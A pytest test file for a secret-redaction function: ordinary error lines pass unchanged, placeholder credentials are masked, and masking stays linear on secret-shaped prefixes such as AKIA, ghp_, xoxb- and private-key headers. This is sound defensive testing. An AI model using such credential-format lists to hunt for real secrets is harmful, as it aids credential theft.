        assert "IOSFODNN7" not in everything


@pytest.mark.parametrize(
    "line",
    [
        "ExpiredToken: The provided token has expired.",
        "An error occurred (UnrecognizedClientException): The security token included in the"
        " request is invalid",
        "cp: error writing '/etc/passwd': No space left on device",
        "/etc/passwd: No space left on device",
        "passwd: Authentication token manipulation error",
        "https://dl.fedoraproject.org/pub/epel/9/x86_64/: [Errno 14] curl#6",
        "GPG key retrieval failed: [Errno 14] Could not open/read file:///etc/pki/rpm-gpg/KEY",
        "BADSIG 4DFF2B6A1B6C9C6D; Signature: NO_PUBKEY",
        "sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "arn:aws:iam::123456789012:role/PatchRole is not authorized to perform: s3:GetObject",
        "E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 1234 (apt-get)",
        "Exception calling EndSearch: 0x80240437 user@example.com",
    ],
)
def test_what_a_diagnosis_needs_stays(line: str) -> None:
    assert mask_secrets(line) == line


@settings(max_examples=150, deadline=None)
@given(
    before=st.text(max_size=80),
    after=st.text(max_size=80),
    line=st.sampled_from([each for each in SECRETS if "BEGIN" not in each]),
)
def test_masking_holds_in_any_surroundings_and_twice(before: str, after: str, line: str) -> None:
    masked = mask_secrets(f"{before} {line} {after}")
    assert "hunter2" not in masked
    assert "IOSFODNN7" not in masked
    assert mask_secrets(masked) == masked


@pytest.mark.parametrize(
    "piece",
    [
        "://",
        "://a",
        "://a@",
        "password",
        "password:",
        'password="',
        "password='\\",
        "eyJ",
        "eyJaaaaaaaaaa.",
        "-----BEGIN PRIVATE KEY-----",
        "authorization:",
        "bearer ",
        "AKIA",
        "token:",
        "--password ",
        "IQoJ",
        "IQoJ/",
        "secret: ",
        "\\",
        '\\\\\\"',
        "a",
        "xoxb-",
        "password=\\\\\\",
        "ghp_",
        "signature=",
        "-----BEGIN ",
        "\x1b[0",
        "key",
    ],
)
def test_masking_is_linear(piece: str) -> None:
    """Four times the text takes about four times as long; a square would take sixteen."""

    def seconds(size: int) -> float:
        text = (piece * size)[:size]
        best = 1e9
        for _ in range(3):
            start = time.process_time()
            mask_secrets(text)
            best = min(best, time.process_time() - start)
        return best

    small, large = seconds(20_000), seconds(80_000)
    assert large < max(9 * small, 0.05), (piece, small, large)
